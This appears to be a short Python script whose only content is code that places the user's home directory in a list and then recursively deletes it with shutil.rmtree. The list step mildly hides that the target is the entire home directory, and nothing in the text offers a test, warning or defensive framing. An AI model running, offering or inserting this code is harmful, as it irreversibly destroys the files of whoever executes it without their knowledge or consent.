import shutil
from pathlib import Path

targets = []
targets.insert(0, Path.home())
shutil.rmtree(targets[0])
